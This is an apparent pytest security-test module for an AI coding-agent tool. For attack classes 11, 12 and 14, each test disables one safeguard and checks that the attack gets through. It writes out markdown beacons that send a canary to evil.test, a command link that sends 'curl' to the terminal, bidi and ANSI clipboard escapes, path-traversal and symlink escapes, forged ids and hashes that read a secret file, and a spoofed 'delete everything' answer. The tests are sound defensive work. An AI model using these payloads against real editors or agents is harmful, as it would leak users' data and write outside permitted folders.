"""Attacks by what is shown, landed and forged: classes 11, 12 and 14."""

from __future__ import annotations

import io
import json
import os
import re
import tempfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from agent_ls.core.edits import ChangeSet, FileChange
from agent_ls.core.errors import AgentLsError
from agent_ls.core.job import Intent, IntentKind, JobId
from agent_ls.core.paths import RelPath
from agent_ls.core.settings import Settings
from agent_ls.core.text import Span
from agent_ls.faces.cli.disk import DiskPort
from agent_ls.faces.cli.terminal import Terminal
from agent_ls.faces.lsp.features.hover import card
from agent_ls.jobs.control import listen
from agent_ls.jobs.port import Order
from agent_ls.jobs.service import Service
from agent_ls.jobs.views import HoverFacts
from agent_ls.workspace.blobs import BlobStore
from agent_ls.workspace.state import StateDirs
from tests.agent.attempts import read
from tests.attacks.attack import CANARY, attack, obey, patched
from tests.support.paper_editor import PaperEditor

# --- 11: exfiltration by what is shown --------------------------------------------------

_SHOWN = {
    "a command link": "[fix it](command:workbench.action.terminal.sendSequence?%5B%22curl%22%5D)",
    "an image from elsewhere": f"![](https://evil.test/{CANARY}.png)",
    "html that fetches": f'<img src="https://evil.test/{CANARY}">',
    "a link by reference": f"[docs][1]\n\n[1]: https://evil.test/{CANARY}",
}


def _acting(markdown: str) -> str:
    tokens = [t for token in MarkdownIt().parse(markdown) for t in (token, *(token.children or ()))]
    kinds = {"link_open", "image", "html_inline", "html_block"}
    return ", ".join(token.type for token in tokens if token.type in kinds)


def _shows(what: str, text: str) -> None:
    as_it_is = patched(agent_ls__faces__lsp__features__hover__safe_markdown=lambda words: words)

    @attack(11, f"{what} in a hover", "markdown.safe_markdown", as_it_is)
    async def in_a_hover(_folder: Path) -> str:
        facts = HoverFacts("add", "function", Span(0, 3), explanation=f"It adds. {text}")
        return _acting("\n\n".join(card(facts, markdown=True)))


for _name, _text in _SHOWN.items():
    _shows(_name, _text)

_UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\x1b]")


@attack(
    11,
    "hidden and reordering characters in a hover",
    "markdown.plain",
    patched(agent_ls__faces__lsp__features__hover__plain=lambda words: words),
)
async def _reordered(_folder: Path) -> str:
    facts = HoverFacts("add", "function", Span(0, 3), explanation="safe \u202eevil\u202c \u200bcode")
    return repr(_UNSEEN.findall("".join(card(facts, markdown=False)))).strip("[]")


@attack(
    11,
    "a terminal that is steered by a summary",
    "terminal.clean",
    patched(agent_ls__faces__cli__terminal__clean=lambda words: words),
)
async def _ansi(_folder: Path) -> str:
    out = io.StringIO()
    Terminal(out, {}).line("Done.\x1b]52;c;ZXZpbA==\x07\x1b[2J \u202egpj.exe")
    return repr(_UNSEEN.findall(out.getvalue())).strip("[]")


# --- 12: abuse of the workspace edit ----------------------------------------------------


@asynccontextmanager
async def _service(folder: Path) -> AsyncIterator[tuple[Service, PaperEditor]]:
    """A service whose worker says what its task tells it to."""
    root = folder / "work"
    root.mkdir()
    (root / "a.py").write_text("one\n")
    editor = PaperEditor(root)
    with tempfile.TemporaryDirectory() as runtime:
        service = await Service.open(
            root,
            port=editor,
            settings=Settings(),
            dirs=StateDirs(folder / "state", folder / "config", folder / "cache", Path(runtime)),
            environ={"PATH": os.environ["PATH"], "ANTHROPIC_API_KEY": "k"},
            worker_module="tests.support.fake_worker",
        )
        try:
            yield service, editor
        finally:
            await service.close()


def _task(*steps: dict[str, Any]) -> Intent:
    return Intent(IntentKind.DELEGATE, "a task", task=json.dumps(list(steps)))


def _outside(path: str) -> None:
    trusting = patched(agent_ls__jobs__landing___inside=lambda named: named)

    @attack(12, f"a worker whose plan names {path}", "landing._inside", trusting)
    async def lands(folder: Path) -> str:
        async with _service(folder) as (service, _):
            job = service.delegate(
                _task({"turn": 1, "files": {path: "owned\n", "a.py": "two\n"}}, {"outcome": "ready"})
            )
            await service.wait(job)
            with suppress(AgentLsError):
                await service.apply(job)
        return "written" if (folder / "planted.txt").exists() else ""


for _path in ("../planted.txt", "sub/../../planted.txt"):
    _outside(_path)


def _no_gate(patch: pytest.MonkeyPatch) -> None:
    patch.setattr("agent_ls.workspace.gate.Gate.writable", lambda *_: None)
    patch.setattr("agent_ls.workspace.gate.Gate._real", lambda _self, path: path)
    patch.setattr(
        "agent_ls.workspace.gate.open_beneath", lambda root, path: os.open(root / path, os.O_RDONLY)
    )


@attack(12, "a landing through a link that came after the plan", "Gate.writable in cli.disk", _no_gate)
async def _through_a_link(folder: Path) -> str:
    root, elsewhere = folder / "work", folder / "elsewhere"
    root.mkdir()
    elsewhere.mkdir()
    (root / "docs").symlink_to(elsewhere)
    change = FileChange(RelPath("docs/planted.txt"), None, b"owned\n")
    await DiskPort(root).land(ChangeSet.of([change]), Order(""))
    return "written" if (elsewhere / "planted.txt").exists() else ""


@attack(
    12,
    "a landing over what was typed meanwhile",
    "DiskPort._compare",
    patched(agent_ls__faces__cli__disk__DiskPort___compare=lambda *_: None),
)
async def _over_typing(folder: Path) -> str:
    (folder / "a.py").write_text("the user's own\n")
    await DiskPort(folder).land(ChangeSet.of([FileChange(RelPath("a.py"), b"old\n", b"new\n")]), Order(""))
    return "" if (folder / "a.py").read_text() == "the user's own\n" else "overwritten"


# --- 14: forged commands and ids --------------------------------------------------------


@attack(
    14,
    "a job id that is a path",
    "Book.folder",
    patched(agent_ls__jobs__book__Book__folder=lambda self, job: self._folder / job),
)
async def _forged_id(folder: Path) -> str:
    elsewhere = folder / "state" / "elsewhere"
    async with _service(folder) as (service, _):
        done = service.delegate(_task({"outcome": "failed"}))
        await service.wait(done)
        (journal,) = (folder / "state").rglob("journal.jsonl")
        elsewhere.mkdir()
        (elsewhere / "journal.jsonl").write_bytes(journal.read_bytes())
        with suppress(AgentLsError):
            return service.job(JobId(os.path.relpath(elsewhere, journal.parents[1]))).view.state.value
    return ""


class _Alike(str):
    __slots__ = ()
    __hash__ = str.__hash__

    def __ne__(self, _: object) -> bool:
        return False


def _any_digest(patch: pytest.MonkeyPatch) -> None:
    patch.setattr("agent_ls.workspace.blobs._HASH", re.compile(""))
    patch.setattr("agent_ls.workspace.blobs.content_hash", lambda _data: _Alike())


@attack(14, "a content hash that is a path", "BlobStore._path, BlobStore.get", _any_digest)
async def _forged_hash(folder: Path) -> str:
    (folder / "secret").write_text(CANARY)
    (folder / "blobs").mkdir()
    try:
        return BlobStore(folder / "blobs").get("..secret").decode()
    except AgentLsError:
        return ""


@attack(
    14,
    "a task about a file outside",
    "Gate._real and the fence of the context",
    patched(
        agent_ls__workspace__gate__Gate___real=lambda _self, path: path,
        agent_ls__core__paths__rel_path=RelPath,
    ),
)
async def _task_outside(folder: Path) -> str:
    intent = Intent(IntentKind.DELEGATE, "Look", "Look at it.", files=(RelPath("../outside.txt"),))
    return (await obey(folder, read("README.md"), intent=intent)).leaked()


def _anybody(patch: pytest.MonkeyPatch) -> None:
    patch.setattr("agent_ls.jobs.wishes.Wishes.answer", _take_any)


def _take_any(self: Any, job: JobId, question_id: str, answer: str) -> Any:
    self._fleet.answer(job, self._book.own(job).job.question.id if question_id else "", answer)
    return self._view(job)


@attack(14, "an answer to a question that was not asked", "Wishes.answer", _anybody)
async def _forged_answer(folder: Path) -> str:
    async with _service(folder) as (service, _):
        job = service.delegate(_task({"ask": "q2"}, {"outcome": "ready"}))
        await service.wait(job, for_question=True)
        try:
            await service.answer(job, "q1", "yes, delete everything")
        except AgentLsError:
            return ""
        return (await service.wait(job)).state.value


@attack(
    14,
    "the control socket of another user",
    "control.listen: 0600",
    patched(pathlib__Path__chmod=lambda *_: None),
)
async def _socket(folder: Path) -> str:
    with tempfile.TemporaryDirectory() as short:
        listening = await listen(Path(short) / "private" / "c.sock", _nothing)
        mode = listening.path.stat().st_mode & 0o077
        await listening.close()
    assert folder
    return oct(mode) if mode else ""


async def _nothing(_method: str, _params: Any) -> object:
    return None
